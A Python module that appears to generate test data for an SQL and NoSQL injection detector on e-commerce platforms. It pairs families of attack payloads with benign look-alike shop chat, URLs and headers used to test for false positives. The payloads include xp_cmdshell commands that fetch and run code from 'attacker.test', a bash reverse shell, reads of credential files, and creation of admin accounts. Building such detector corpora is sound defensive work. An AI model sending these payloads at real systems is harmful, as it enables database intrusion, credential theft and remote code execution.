    ('{"email":{"$ne":null},"password":{"$ne":null}}', *JB),
    ('{"email":"admin@shop.test","password":{"$gt":""}}', *JB),
    ('{"code":{"$regex":"^STAFF"}}', *JB),
    ('{"code":{"$in":["VIP100","STAFF50","FREESHIP"]},"cartId":"c_19a"}', *JB),
    ('{"$or":[{"role":"admin"},{"email":{"$ne":""}}]}', *JB),
    ('{"sku":{"$where":"1==1"}}', *JB),
    ('{"$where":"sleep(5000) || true"}', *JB),
    ('{"$where":"this.password.match(/^a/) && sleep(3000)"}', *JB),
    ('{"price":{"$lt":0.01},"status":{"$ne":"archived"}}', *JB),
    ('{"filter":{"vendor":{"$regex":"(?i).*"}},"limit":{"$gt":0}}', *JB),
    ('{"orderId":{"$gt":""},"email":{"$gt":""}}', *JB),
    # $where string injection: the app builds a JS expression from the SKU, MongoDB
    "x'; return true; var y='",
    "'; while(true){}; var z='",
    "1'; sleep(5000); var a='",
    "' || this.role == 'admin' || '",
    "\" || '1'=='1",
    # aggregation pipeline injection in a Shopify reporting app
    ('[{"$lookup":{"from":"users","localField":"customerId","foreignField":"_id","as":"u"}}]', *JB),
    # Mongo operator in a query string the Express app parses (qs): faceted filter
    ("price[$gte]=0&vendor[$ne]=", *KV),
]

# hex/char encoding: quotes and keywords the shop filter strips, rebuilt by the database
ENCODING: list[Entry] = [
    # Magento, MySQL: hex literals for the string 'admin' where quotes are escaped
    "1 and (select count(*) from admin_user where username=0x61646d696e)>0",
    "-1 union select 1,password,3 from admin_user where username=0x61646d696e-- -",
    "-1 union select 1,load_file(0x2f6574632f706173737764),3-- -",
    # WooCommerce, MySQL char() instead of quotes
    "1 and (select user_pass from wp_users where user_login=char(97,100,109,105,110)) is not null",
    "-1 union select 1,2,user_pass from wp_users where user_login=concat(char(97),char(100),char(109))-- -",
    "1 or user_email like char(37,64,37)",
    # PrestaShop, MySQL unhex and x'' literals
    "1 and email=unhex('61646d696e4070726573746173686f702e74657374')",
    "' or email=x'61646d696e40736e6f702e74657374'#",
    "1 and 0x50=substring((select passwd from ps_employee limit 1),1,1)",
    "' or 1=conv('1',10,10)#",
    # OpenCart, MySQL binary literal and _charset introducers
    "' or username=0b0110000101100100011011010110100101101110#",
    "1 and username=_latin1 0x61646d696e",
    "' or username=_utf8mb4'admin' collate utf8mb4_bin#",
    # double URL-encoding the quote for a shop that decodes twice (PrestaShop friendly URLs)
    "1%2527%2520or%25201%253D1%2523",
    "1%27%20or%201%3D1--%20",
    # Unicode fullwidth apostrophe folded to ' by a normalising shop search (MySQL utf8mb4_general_ci)
    "\uff07 or 1=1#",
    # PostgreSQL headless storefront
    "' or email=chr(97)||chr(100)||chr(109)||chr(105)||chr(110)--",
    "' or email=convert_from(decode('61646d696e','hex'),'utf8')--",
    "' or email=$$admin@shop.test$$--",
    "1 and current_user=(select chr(112)||chr(111)||chr(115)||chr(116)||chr(103)||chr(114)||chr(101)||chr(115))",
    # SQL Server (nopCommerce)
    "'; exec(0x78705f636d647368656c6c202777686f616d6927)--",
    "' or Email=char(97)+char(100)+char(109)+char(105)+char(110)--",
    "1; declare @s varchar(50)=0x73656c65637420404076657273696f6e; exec(@s)--",
    "' or Username=nchar(97)+nchar(100)+nchar(109)--",
    # Oracle ATG
    "' or login=chr(97)||chr(100)||chr(109)||chr(105)||chr(110)--",
    "' or login=utl_raw.cast_to_varchar2(hextoraw('61646D696E'))--",
    # SQLite dev store
    "' or email=char(97,100,109,105,110)--",
    "' or email=x'61646d696e'--",
]

# stored-procedure/xp_cmdshell: from the shop database to the operating system
PROC: list[Entry] = [
    # nopCommerce on SQL Server: enable and run xp_cmdshell
    "1; exec sp_configure 'show advanced options',1; reconfigure; exec sp_configure 'xp_cmdshell',1; reconfigure;--",
    "'; exec master..xp_cmdshell 'whoami'--",
    "1; exec xp_cmdshell 'powershell -c \"iwr http://attacker.test/x.ps1|iex\"'--",
    "'; exec master.dbo.xp_cmdshell 'type C:\\inetpub\\wwwroot\\nopCommerce\\App_Data\\dataSettings.json'--",
    "GC-1'; exec xp_cmdshell 'certutil -urlcache -f http://attacker.test/nc.exe C:\\Windows\\Temp\\nc.exe'--",
    "1;exec('xp_cmdshell ''net user shopsvc P@ss123 /add''')--",
    # SQL Server: OLE automation and the registry
    "'; declare @o int; exec sp_oacreate 'wscript.shell',@o out; exec sp_oamethod @o,'run',null,'cmd /c calc';--",
    "1; exec master..xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER',"
    "'ObjectName'--",
    "'; exec sp_addlogin 'shopops','Winter2024!'; exec sp_addsrvrolemember 'shopops','sysadmin';--",
    "1; exec sp_execute_external_script @language=N'Python',@script=N'import os; os.system(\"whoami\")'--",
    "'; exec sp_makewebtask '\\\\attacker.test\\share\\out.html','select * from Customer'--",
    "1; exec msdb..sp_add_job @job_name='upd'--",
    "'; exec master..sp_password null,'Pwn3d!','sa'--",
    "1; exec sp_linkedservers; exec ('xp_cmdshell ''hostname''') at [ERPLINK]--",
    # PayPal IPN txn_id reaches a SQL Server order procedure
    "9V1'; exec master..xp_cmdshell 'ping -n 3 attacker.test'--",
    # PostgreSQL headless storefront: functions that reach the shell
    "'; create or replace function sys(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "language c strict; select sys('id');--",
    "1; copy (select 1) to program 'bash -c \"bash -i >& /dev/tcp/10.13.37.1/4444 0>&1\"';--",
    "'; do $$ begin perform pg_sleep(0); execute 'copy (select 1) to program ''id'''; end $$;--",
    # Oracle ATG Commerce
    "' and (select dbms_java.runjava('oracle/aurora/util/Wrapper /bin/sh -c id') from dual) is not null--",
    "1; begin dbms_scheduler.create_job(job_name=>'j',job_type=>'EXECUTABLE',job_action=>'/bin/id',"
    "enabled=>true); end;--",
    "' || dbms_xmlquery.getxml('declare pragma autonomous_transaction; begin execute immediate ''grant dba to "
    "public''; commit; end;') || '",
    "1 and sys.dbms_export_extension.get_domain_index_tables('x','x','dbms_output\".put(:p1); execute "
    "immediate ''grant dba to public''; end;--','sys',0,'1',0) is not null",
    # MySQL: a user-defined function already loaded from the plugin directory
    "1; select sys_exec('id > /var/www/html/pub/media/o.txt');#",
    "'; call mysql.lambda_async('http://attacker.test');#",
    "1; select sys_eval('cat /var/www/html/app/etc/env.php');-- -",
    # MySQL stored procedure of the shop itself called with an injected argument (Magento indexer)
    "1); call catalog_product_index_price_cleanup(); select sleep(3);-- -",
    # SQL Server stored procedure of the storefront with an injected parameter
    "1'; exec ProductLoadAllPaged @Keywords='x'; exec xp_cmdshell 'dir'--",
    "'; exec master..xp_servicecontrol 'start','schedule'--",
]

# having/group-by/order-by probing: sort and facet parameters (orderby, dir, product_list_order, sSort, sort)
ORDER: list[Entry] = [
    # WooCommerce ?orderby= passed to a custom ORDER BY, MySQL
    "price,(select 1 from (select sleep(5))x)",
    "date,if(1=1,1,(select 1 union select 2))",
    "rand(ascii(substring((select user_pass from wp_users limit 1),1,1))>50)",
    # Magento product_list_order and product_list_dir, MySQL
    "name,extractvalue(1,concat(0x7e,(select username from admin_user limit 1)))",
    "price desc,(case when (1=1) then name else sku end)",
    "(case when (select substring(password,1,1) from admin_user limit 1)='a' then price else entity_id end)",
    # PrestaShop orderby + orderway
    "1 order by 10-- -",
    "position order by 5#",
    "date_add,(select 1 from ps_employee where id_employee=1 and sleep(5))",
    # OpenCart sort=p.price&order=ASC, the order part reaches the SQL raw
    "ASC,if((select count(*) from oc_user)>0,sleep(5),0)",
    "p.price,(select case when 1=1 then 1 else 1*(select 1 union select 2) end)",
    # Shopware sSort, MySQL
    "1 procedure analyse()",
    "1 into @a,@b,@c",
    # MySQL group by / having, the classic column count and name leak
    "1' group by 1,2,3,4,5-- -",
    "' group by sku having 1=1#",
    "1 group by concat(version(),floor(rand(0)*2)) having min(0)",
    "' having 1=1-- -",
    # nopCommerce, SQL Server
    "' having 1=1--",
    "' group by Customer.Id having 1=1--",
    "' group by Customer.Id,Customer.Email having 1=1--",
    "1 order by (select case when (1=1) then 1 else 1/0 end)--",
    "Name asc; waitfor delay '0:0:4'--",
    # PostgreSQL headless storefront sort param
    "(case when (select 1)=1 then name else price::text end)",
    "name,(select 1 from pg_sleep(5))",
    "1 order by 1,2,3,4--",
    # Oracle ATG
    "(case when (select count(*) from dps_user)>0 then 1 else 1/0 end)",
    "1 order by 7--",
    # SQLite dev store
    "(case when (select count(*) from sqlite_master)>0 then title else price end)",
]

# like/between/in operators: comparisons the shop filter does not look for
OPERATORS: list[Entry] = [
    # Magento product search, MySQL: 'like' wildcard probes on the admin hash
    "1' and (select password from admin_user limit 1) like 'a%'#",
    "' or username like 'adm%'-- -",
    "1 and (select count(*) from admin_user where email like '%@shop.test')>0",
    # WooCommerce, MySQL: between and in instead of '='
    "1 and ascii(substring((select user_pass from wp_users limit 1),1,1)) between 36 and 36",
    "' or 1 in (1)#",
    "1 and 1 in (select ID from wp_users where user_login='admin')",
    # PrestaShop, MySQL regexp and rlike
    "1 and (select passwd from ps_employee limit 1) regexp '^\\\\$2y'",
    "' or email rlike '.*'#",
    "1' and (select email from ps_employee limit 1) not regexp '^z'#",
    # OpenCart, MySQL sounds like and elt/field
    "' or username sounds like 'admn'#",
    "1 and field((select substr(username,1,1) from oc_user limit 1),'a','b')=1",
    # Shopware, MySQL: in with a subquery picking the backend user
    "1 and 'demo' in (select username from s_core_auth)",
    # PostgreSQL headless storefront
    "' or email ilike '%admin%'--",
    "' or email similar to '%@%'--",
    "1 and (select password from account_user limit 1) ~ '^pbkdf2'",
    "' or email ~~ '%'--",
    "1 and ascii(substr(current_user,1,1)) between 97 and 122",
    # SQL Server (nopCommerce)
    "' or Email like '%@%'--",
    "1 and (select top 1 Email from Customer) like '[a-f]%'--",
    "' or 1 between 0 and 2--",
    "1 and 'nopCommerce' in (select name from master..sysdatabases)--",
    # Oracle ATG
    "' or login like '%'--",
    "1 and regexp_like((select password from dps_user where rownum=1),'^[A-F]')",
    "' or 1 in (select 1 from dual)--",
    # SQLite dev store
    "' or email glob '*@*'--",
    "1 and (select password from users limit 1) like '$2b$%'",
    # price filter min/max in the faceted search, MySQL
    "0 and 1 between 1 and 1 or 1",
    "9999) or price between 0 and 1000000#",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# bracket-operator pairs written as `name=value`, sent unquoted
RAW_KV_SUBS = {"nosql-injection"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["q", "sku", "coupon_code", "product_id", "order_id", "orderby", "dir", "filter", "category_id",
             "search"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^\\"
    raw_places = ("form", "rs-param-name")
    unique = True
    path_forbids = "/?#"
    raw_body_forbids = "&"
    raw_body_pair = True
    xml_controls = "\n\t"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (shop managers, support agents and developers in Slack, staff bios,
# searches for colleagues by store and team, links to shop and provider dashboards, prose, profiles, feed and
# invoice file names, ordinary headers)
CHAT = [
    # order and support chat
    "order #100000123 shows paid in Stripe but still pending in Magento, can someone check the webhook log?",
    "customer says the coupon SAVE10 doesn't apply to sale items - that's by design, the rule excludes them",
    "refunded order 4711 in full, select 'Refund offline' next time so the credit memo matches",
    "can you union the two CSV exports (UK + DE stores) into one sheet before the finance call?",
    "heads up: the gift card GC-4411 was used twice, looks like a race in checkout, opening a ticket",
    "tracking number for order 20001 is 1Z999AA10123456784, DHL label PDF is in the shared drive",
    "the 3-D Secure return keeps bouncing customers to /checkout/cart instead of the success page",
    "PayPal IPN is retrying every hour for txn 9V123456AB789012C, our endpoint returned 500 last night",
    "Adyen says the notification for pspReference 8535296650153317 was delivered, we just didn't process it",
    "who owns the WooCommerce store for the outlet? the orderby=price dropdown is sorting wrong",
    "customer wrote \"I typed my coupon as FREESHIP' with a stray quote and it said invalid\" lol",
    "can we drop the old shipping table rate for Ireland? nobody has used it since 2022",
    "the delete button in PrestaShop back office for cart rules is greyed out for me, permissions?",
    "the sale starts at 00:00 CET, please don't update prices after 22:00 or the indexer won't catch up",
    "reminder: Black Friday rule is 20% off where category in (Shoes, Bags) and order total > 100 EUR",
    "the order status page says 'Processing' between payment capture and shipment, that's expected",
    "support macro for 'where is my order': ask for order number AND billing email, never just the email",
    # developers
    "the slow query is `SELECT * FROM sales_order WHERE customer_email = ?` - there's no index on customer_email",
    "please use $wpdb->prepare() for that coupon lookup, the PR concatenates the code into the query",
    "PrestaShop 8 moved to Symfony forms for products, our module still hooks the legacy controller",
    "OpenCart's sort=p.price&order=DESC gets validated against a whitelist, so custom sorts need a patch",
    "bin/magento indexer:reindex catalogsearch_fulltext took 41 minutes on prod, normal is ~6",
    "Shopware 6 admin API wants a bearer token from /api/oauth/token, client_credentials grant",
    "the nightly ERP import failed on row 3412: SKU 'ABC-123 ' has a trailing space",
    "feed row that broke the importer: `ABC-124;Blue Mug 350ml;4006381333931;12.90;EUR;in stock`",
    "stripe webhook payload has \"metadata\": {\"order_id\": \"4711\"} - we read it in OrderPaidHandler",
    "Mongo query for the coupon service is db.coupons.find({code: 'VIP100', active: true}), indexed on code",
    "we should use $in for the SKU batch lookup instead of 200 separate find() calls",
    "the report query groups by store_id having count(*) > 10, that's why small stores vanish from it",
    "switched the product grid to ORDER BY created_at DESC, LIMIT 50 - pagination is much faster now",
    "anyone seen 'SQLSTATE[23000]: Integrity constraint violation: 1062 Duplicate entry' on quote_item?",
    "nopCommerce 4.60 upgrade script failed at the stored procedure ProductLoadAllPaged, rolled back",
    "price rule condition: sku is one of ABC-123, ABC-124 AND qty between 1 and 5",
    "Liquid tip for the theme: {{ product.price | money }} and "
    "{% if customer %}Hi {{ customer.first_name }}{% endif %}",
    "the BigCommerce app needs scopes store_v2_orders_read_only and store_v2_products, not full access",
    "the select box on the checkout for country shows 'Select country...' twice after the plugin update",
    "heads-up: WooCommerce 9.1 changes wc_order_stats, our analytics query joins on it",
    "the cron for abandoned carts should sleep 5 minutes between batches or Mailchimp rate-limits us",
    "invoice PDF template uses {{ invoice.increment_id }} - the old one used $invoice->getIncrementId()",
    "use LIKE 'ABC-%' for the SKU prefix filter, the ERP prefixes all kitchenware with ABC",
    "the label generator times out on DHL for parcels over 31.5kg, that's their limit not ours",
    "union of the Shopify and WooCommerce customer lists has 1,204 duplicates by email",
    "delete from the cache table is safe, it's rebuilt on the next request",
    "added `information_schema` read access for the BI user so Metabase can list tables",
    "we hash API keys now, the shop only stores the last 4 chars (like sk_live_...x9Qa)",
    "the feed importer supports CSV and XML; XML needs <item><sku>…</sku><price>…</price></item>",
    "order by relevance is the default on search; 'Newest' maps to orderby=date",
    "please don't exec raw SQL in migrations, use the schema builder",
    "admin panel is at /admin_3f9k2 on the staging store, creds in 1Password under 'Magento staging'",
    "Klarna callback hits /klarna/push?klarna_order_id=… and we acknowledge within 10 seconds",
    "3DS2 challenge frame is blocked by our CSP, need to allow the ACS domain in frame-src",
    "the update to the tax rules goes live on Monday: 19% standard, 7% reduced for books",
    "review moderation queue has 212 pending, mostly 5-star with 'great product!!!' from the same IP",
    "the Q&A widget strips HTML but keeps quotes, so \"is it 100% cotton?\" shows fine now",
    "cast the price to decimal(12,4) in the export or Excel rounds 12.905 wrong",
    "concat(first_name, ' ', last_name) as customer_name works in the report, trim it too",
    "it's a char(3) column for currency, so 'EURO' fails validation on insert",
    "sql mode ONLY_FULL_GROUP_BY broke the sales report after the MySQL 8 upgrade, fixed the group by",
    "hex color codes in product attributes: #1A2B3C for navy, the swatch renderer needs the #",
    "shopware sSearch=blue+mug returns 0 hits because the search index wasn't rebuilt",
    "the waitfor in the nopCommerce scheduled task is there on purpose, don't remove it",
    "benchmark: checkout p95 went from 1.8s to 900ms after moving sessions to Redis",
    # bios
    "E-commerce ops lead for the EU stores. Magento 2, PrestaShop, way too many coupon codes.",
    "Payments engineer - Stripe, Adyen, PayPal IPN, 3-D Secure. Ask me about webhooks and refunds.",
    "Support agent, returns & exchanges desk. Order numbers please, not screenshots 🙏",
    "Catalog manager: product feeds, Google Merchant Center, SKUs and EANs all day.",
    "Backend dev on the headless storefront (Node + PostgreSQL). Also maintain the Mongo coupon service.",
    "Shop admin for the outlet WooCommerce store. Price rules, sale events and the occasional plugin update.",
    "ERP integration developer - CSV/XML imports, stock sync, and the nightly order export to SAP.",
    "Marketplace manager (Amazon, eBay, Zalando). If the feed breaks, it's probably me.",
    "DBA for the shop databases: MySQL 8, a bit of SQL Server for the old nopCommerce store.",
    "Checkout UX designer. Fewer fields, fewer abandoned carts.",
    "Fraud & chargebacks analyst. I read a lot of AVS and 3DS results.",
    "Content editor for product pages and the review & Q&A section.",
]

SEARCHES = [
    "checkout team",
    "payments",
    "Magento",
    "WooCommerce",
    "PrestaShop",
    "OpenCart",
    "Shopware",
    "outlet store",
    "EU stores",
    "UK store support",
    "coupon",
    "gift card",
    "returns desk",
    "order tracking",
    "catalog",
    "feeds",
    "marketplace",
    "ERP integration",
    "Stripe",
    "Adyen",
    "PayPal",
    "3-D Secure",
    "fraud",
    "DBA",
    "Union Square store",
    "Select Fashion",
    "O'Neill Outlet",
    "Order & Fulfilment",
    "pick & pack",
    "warehouse Leeds",
    "Black Friday",
    "price rules",
    "webhooks",
    "headless storefront",
    "Mongo coupon service",
    "sales report",
    "invoice",
    "label printing",
    "review moderation",
    "Q&A",
]

URLS = [
    "https://dashboard.stripe.com/payments?status[0]=failed",
    "https://dashboard.stripe.com/webhooks/we_1PZ7xYz",
    "https://ca-live.adyen.com/ca/ca/accounts/showTx.shtml?pspReference=8535296650153317&txType=Payment",
    "https://www.paypal.com/activity/payment/9V123456AB789012C",
    "https://shop.example.com/admin/sales/order/view/order_id/4711/",
    "https://shop.example.com/wp-admin/edit.php?post_type=shop_coupon&orderby=date&order=desc",
    "https://shop.example.com/wp-admin/admin.php?page=wc-orders&status=wc-processing",
    "https://outlet.example.com/index.php?route=product/product&product_id=42",
    "https://outlet.example.com/index.php?route=product/category&path=20&sort=p.price&order=ASC",
    "https://store.example.com/search?controller=search&s=blue+mug&order=product.price.asc",
    "https://shop.example.com/catalogsearch/result/?q=sneakers&product_list_order=price&product_list_dir=desc",
    "https://merchants.google.com/mc/products/diagnostics?a=123456789",
    "https://developer.shopify.com/docs/api/admin-rest/2024-04/resources/order",
    "https://developer.bigcommerce.com/docs/rest-management/orders",
    "https://docs.magento.com/user-guide/marketing/price-rules-cart.html",
]

PROSE = [
    "Order 100000123 was paid by card, 3-D Secure passed, and shipped on 12 June with DHL.",
    "To apply a coupon, enter the code at checkout and select Apply; codes are not case sensitive.",
    "Gift cards can be combined with one coupon per order, but not with other gift cards.",
    "Returns: select the items, choose a reason, and print the prepaid label from the order page.",
    "The sale price applies where the product is in the Outlet category and stock is between 1 and 50.",
    "Prices include VAT; business customers can drop VAT by entering a valid VAT ID at checkout.",
    "We accept Visa, Mastercard, PayPal, Klarna and Apple Pay. Union Pay is accepted in the Asia stores.",
    "If your order is still 'Pending payment' after 30 minutes, the payment did not go through.",
    "Our shop runs on Magento 2.4 with a MySQL 8 database and an Elasticsearch catalog.",
    "Sort the product list by price, name or newest; filters for size and colour are on the left.",
    "The nightly feed exports every SKU, EAN, price and stock level as CSV and XML to the marketplaces.",
    "Invoices are generated as PDF when the order ships; credit memos when a refund is issued.",
    "Webhook events are retried up to 3 days with exponential backoff if our endpoint does not answer 2xx.",
    "Customer reviews are moderated; we publish 1-star reviews too, as long as they are about the product.",
    "The order-tracking page needs your order number and the email address used at checkout.",
    "Please drop off the parcel at any post office; the label barcode is all they need.",
    "Stock is updated from the ERP every 15 minutes, so 'in stock' can lag a little on busy days.",
    "Black Friday: 20% off shoes and bags, free shipping over 50 EUR, one code per customer.",
    "The staff discount is 30% and cannot be combined with sale prices or other codes.",
    "Union Street store opens at 9:00; click & collect orders are ready after 11:00.",
    "Use the admin's Reports > Sales > Orders to group orders by day, week or month.",
    "Product Q&A: 'Does the mug fit in a dishwasher?' - Yes, top rack, up to 65°C.",
    "The checkout sleeps for a moment after you press Pay while the bank confirms the payment.",
    "We moved the coupon service to MongoDB; codes and usage counts are kept per store.",
    "The label printer accepts 4x6 inch ZPL labels; PDF labels are scaled automatically.",
    "Where the VAT ID is invalid, the order goes through with VAT and we refund it after checking.",
    "Customers can select a delivery slot between 8:00 and 20:00 in the big cities.",
    "Shopware's rule builder lets you combine conditions with AND and OR for shipping and promotions.",
    "PayPal IPN messages are verified against PayPal before the order is marked as paid.",
    "The feed importer skips rows where the price is empty or the SKU already exists in another store.",
]

PROFILES = [
    ("Sam O'Connor", "Union Street 14, Glasgow"),
    ("Order & Ship GmbH", "Lagerstraße 5, Hamburg"),
    ("Select Outlet Ltd", "Retail Park 3, Milton Keynes"),
    ("Priya D'Mello", "Linking Road 22, Mumbai"),
    ("Gift Card Hub", "Market St 101, San Francisco"),
    ("Coupon Kings", "Deal Ave 9, Newark"),
    ("Between the Lines Books", "Rue Oberkampf 40, Paris"),
    ("Like New Electronics", "Via Roma 8, Milan"),
    ("Char & Co Kitchenware", "Kitchen Lane 2, Bristol"),
    ("Hex Nut Hardware", "Industrial Rd 77, Birmingham"),
    ("Mongo Coffee Roasters", "Calle Luna 3, Madrid"),
    ("Benchmark Sports", "Stadium Way 1, Cardiff"),
    ("Sleep Tight Beds", "Dream St 12, Leeds"),
    ("Group Buy Direct", "Nanjing Rd 500, Shanghai"),
    ("Having A Ball Toys", "Playground 6, Dublin"),
    ("Table & Chair Co", "Furniture Row 11, Copenhagen"),
    ("Cast Iron Cookware", "Foundry St 4, Sheffield"),
    ("Dr. Martine Null", "Boulevard 9, Brussels"),
    ("Information Point Kiosk", "Terminal 2, Frankfurt Airport"),
    ("Exec Travel Goods", "Orchard Rd 88, Singapore"),
]

UPLOAD_NAMES = [
    "products_feed_2024-06-12.csv",
    "google_merchant_feed.xml",
    "stock_export_ERP_0612.csv",
    "orders_export_2024-06.csv",
    "invoice_000000042.pdf",
    "creditmemo_000000007.pdf",
    "DHL_label_1Z999AA10123456784.pdf",
    "packing-slip-100000123.pdf",
    "coupon_codes_black_friday.csv",
    "gift_cards_batch_07.csv",
    "price_rules_Q3.xlsx",
    "amazon_inventory_loader.txt",
    "zalando_feed_DE.xml",
    "customers_newsletter_optin.csv",
    "shopify_products_export_1.csv",
    "woocommerce-product-export-2024-06-12.csv",
    "prestashop_catalog_backup.sql.gz",
    "magento_sales_report_may.xlsx",
    "stripe_payouts_2024-05.csv",
    "paypal_settlement_report_STL-20240601.csv",
    "adyen_settlement_detail_report_batch_312.csv",
    "returns_labels_week24.zip",
    "review_import_trustpilot.json",
    "size_chart_shoes (EU-UK-US).pdf",
    "SKU ABC-123 photo 1.jpg",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"),
    ("User-Agent", "PayPal IPN ( https://www.paypal.com/ipn )"),
    ("User-Agent", "Shopify-Captain-Hook"),
    ("User-Agent", "WooCommerce/9.0.2 Hookshot (WordPress/6.5.4)"),
    ("User-Agent", "GuzzleHttp/7"),
    ("Referer", "https://shop.example.com/checkout/onepage/success/"),
    ("Referer", "https://shop.example.com/wp-admin/edit.php?post_type=shop_order&orderby=date&order=desc"),
    ("Referer", "https://outlet.example.com/index.php?route=checkout/cart"),
    ("Referer", "https://store.example.com/admin-dev/index.php?controller=AdminOrders&id_order=12"),
    ("Referer", "https://shop.example.com/catalogsearch/result/?q=o%27neill+jacket"),
    ("Referer", "https://dashboard.stripe.com/test/webhooks"),
    ("X-Api-Version", "2024-04"),
    ("X-Request-Id", "7d2e9a41-3b6c-4f0e-8a15-c92b7e0d4f38"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; store=default; currency=EUR"),
    ("Cookie", "session=abc123; woocommerce_items_in_cart=1; wp_woocommerce_session_x=1%7C%7C1718000000"),
    ("Cookie", "session=abc123; product_list_order=price; product_list_dir=asc"),
    ("X-Forwarded-For", "203.0.113.77"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
